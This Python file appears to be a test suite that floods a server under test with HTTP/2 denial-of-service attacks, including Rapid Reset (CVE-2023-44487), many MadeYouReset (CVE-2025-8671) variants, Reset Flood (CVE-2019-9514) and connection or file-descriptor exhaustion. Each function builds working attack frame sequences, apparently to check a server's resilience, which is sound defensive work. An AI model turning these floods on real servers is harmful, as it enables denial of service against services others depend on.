"""Streams that are opened to be ended: resets in both directions, refusals, connections that do not last."""

from __future__ import annotations

from collections.abc import Callable

from tests.attacks import wire
from tests.attacks.model import attack, flood, small_requests
from tests.attacks.peer import Door

MORE_THAN_FILES = 40
"""Connections that are too many for a victim with as many files, some of which it has open already."""


def each(count: int, frames: Callable[[int], bytes]) -> bytes:
    """The same frames for so many streams, one stream after the other."""
    return b"".join(frames(stream_id) for stream_id in wire.streams(count))


@attack(10_000, run=flood(), like=small_requests)
def rapid_reset(count: int) -> bytes:
    """Rapid Reset (CVE-2023-44487)."""
    return each(count, lambda one: wire.headers(one, wire.request()) + wire.rst(one))


@attack(10_000, run=flood(), like=small_requests)
def rapid_reset_of_slow_handlers(count: int) -> bytes:
    """Rapid Reset (CVE-2023-44487), of handlers whose clean-up takes its time."""
    return each(count, lambda one: wire.headers(one, wire.request(b"/cleanup")) + wire.rst(one))


@attack(10_000, like=small_requests)
def rapid_reset_in_batches(door: Door, count: int) -> None:
    """Rapid Reset (CVE-2023-44487), a hundred requests at a time, so that every handler starts."""
    peer = door.connect()
    ids = list(wire.streams(count))
    for at in range(0, count, 100):
        batch = ids[at : at + 100]
        peer.send(b"".join(wire.headers(one, wire.request(b"/hang")) for one in batch) + wire.ping())
        peer.wait(lambda pongs=at // 100 + 1: peer.pongs >= pongs)
        if not peer.send(b"".join(wire.rst(one) for one in batch)):
            break
    peer.settle()
    door.hold()


def made_you_reset(name: str, bad: Callable[[int], bytes], *, end: bool = True, path: bytes = b"/hang") -> None:
    """A variant of MadeYouReset (CVE-2025-8671): a valid request, then a frame that makes the server reset it."""

    def prepare(count: int) -> bytes:
        return each(count, lambda one: wire.headers(one, wire.request(path), end=end) + bad(one))

    prepare.__name__ = f"made_you_reset_{name.replace(' ', '_')}"
    prepare.__doc__ = f"MadeYouReset (CVE-2025-8671): {name}."
    attack(5_000, run=flood(), like=small_requests)(prepare)


made_you_reset("window update of 0", lambda one: wire.window_update(one, 0))
made_you_reset("window overflow", lambda one: wire.window_update(one, wire.MAX_WINDOW))
made_you_reset("data after END_STREAM", lambda one: wire.data(one, b"x"))
made_you_reset("headers after END_STREAM", lambda one: wire.headers(one, wire.request()))
made_you_reset("priority of itself", lambda one: wire.priority(one, one))
made_you_reset("priority of a wrong length", lambda one: wire.frame(wire.PRIORITY, 0, one, b"1234"))
made_you_reset("malformed trailers", lambda one: wire.headers(one, wire.literal(b":path", b"/")), end=False)
made_you_reset("trailers that end nothing", lambda one: wire.headers(one, b"", end=False), end=False)


@attack(5_000, run=flood(), like=small_requests)
def made_you_reset_headers_of_itself(count: int) -> bytes:
    """MadeYouReset (CVE-2025-8671): HEADERS of a stream that depends on itself."""
    flags = wire.END_HEADERS | wire.END_STREAM | wire.WITH_PRIORITY
    return each(count, lambda one: wire.frame(wire.HEADERS, flags, one, wire.dependency(one) + wire.request()))


@attack(5_000, run=flood(), like=small_requests)
def made_you_reset_body_too_long(count: int) -> bytes:
    """MadeYouReset (CVE-2025-8671): a body longer than its content-length."""
    block = wire.request(b"/hang", wire.literal(b"content-length", b"1"), method=b"POST")
    return each(count, lambda one: wire.headers(one, block, end=False) + wire.data(one, b"xx"))


@attack(5_000, run=flood(), like=small_requests)
def made_you_reset_body_too_short(count: int) -> bytes:
    """MadeYouReset (CVE-2025-8671): a body shorter than its content-length."""
    block = wire.request(b"/hang", wire.literal(b"content-length", b"1"), method=b"POST")
    return each(count, lambda one: wire.headers(one, block, end=False) + wire.data(one, end=True))


@attack(200, crowd=100, like=small_requests)
def made_you_reset_body_beyond_window(door: Door, count: int) -> None:
    """MadeYouReset (CVE-2025-8671): DATA beyond the stream's window."""
    peer = door.connect()
    block = wire.request(b"/hang", method=b"POST")
    for number, one in enumerate(wire.streams(count)):
        body = wire.data(one, bytes(16_000)) * 17
        if not peer.send(wire.headers(one, block, end=False) + body):
            break
        # What a reset stream held is credit of the connection again; wait, so as to stay within that.
        if not peer.wait(lambda wanted=number + 1: peer.ends >= wanted, 5):
            break
    peer.settle()
    door.hold()


@attack(5_000, like=small_requests)
def made_you_reset_in_batches(door: Door, count: int) -> None:
    """MadeYouReset (CVE-2025-8671), a hundred requests at a time, so that every handler starts."""
    peer = door.connect()
    ids = list(wire.streams(count))
    for at in range(0, count, 100):
        batch = ids[at : at + 100]
        peer.send(b"".join(wire.headers(one, wire.request(b"/hang")) for one in batch) + wire.ping())
        peer.wait(lambda pongs=at // 100 + 1: peer.pongs >= pongs)
        if not peer.send(b"".join(wire.window_update(one, 0) for one in batch)):
            break
    peer.settle()
    door.hold()


@attack(5_000, run=flood(), like=small_requests)
def reset_flood(count: int) -> bytes:
    """Reset Flood (CVE-2019-9514): requests that are malformed, each answered with a reset."""
    return each(count, lambda one: wire.headers(one, b"\x82\x82\x86"))


@attack(10_000, run=flood(), like=small_requests)
def streams_past_the_limit(count: int) -> bytes:
    """Requests past the limit of streams, while a hundred hang: each is refused."""
    return each(count, lambda one: wire.headers(one, wire.request(b"/hang")))


@attack(2_000, run=flood(), like=small_requests)
def early_answers(count: int) -> bytes:
    """Requests that are answered, and reset, before they have ended, so that DATA for them comes late."""
    block = wire.request(b"/early", method=b"POST")
    return each(count, lambda one: wire.headers(one, block, end=False) + wire.data(one, bytes(100)))


@attack(300, crowd=105)
def short_connections(door: Door, count: int) -> None:
    """Connections that are reset in the moment in which requests are read, and while responses wait to be written."""
    large = each(50, lambda one: wire.headers(one, wire.request(b"/large")))
    late = b"".join(wire.headers(one, wire.request(b"/hang")) for one in range(101, 201, 2))
    opening = wire.PREFACE + wire.settings((wire.INITIAL_WINDOW_SIZE, wire.MAX_WINDOW)) + wire.settings_ack()
    opening += wire.window_update(0, wire.MAX_WINDOW - 65_535) + large
    for number in range(count):
        peer = door.bare()
        peer.send(opening, reading=False)
        if number % 3:
            peer.wait(lambda peer=peer: peer.settings > 0, 1)
            peer.send(late, reading=False)
        door.forget(peer)


@attack(1_000, crowd=235)
def resets_in_the_backlog(door: Door, count: int) -> None:
    """Connections with requests that were reset while they waited to be accepted."""
    opening = wire.PREFACE + wire.settings() + each(20, lambda one: wire.headers(one, wire.request()))
    waiting = []
    for _ in range(count):
        peer = door.bare()
        peer.send(opening, reading=False)
        waiting.append(peer)
        if len(waiting) == 50:
            for other in waiting:
                door.forget(other)
            waiting.clear()
    for other in waiting:
        door.forget(other)


@attack(MORE_THAN_FILES, connections=MORE_THAN_FILES, files=MORE_THAN_FILES)
def more_connections_than_files(door: Door, count: int) -> None:
    """More connections than the victim may have files: accepting fails."""
    for _ in range(MORE_THAN_FILES):
        door.bare()
    door.hold()
    door.peers[0].wait(lambda: False, 1)
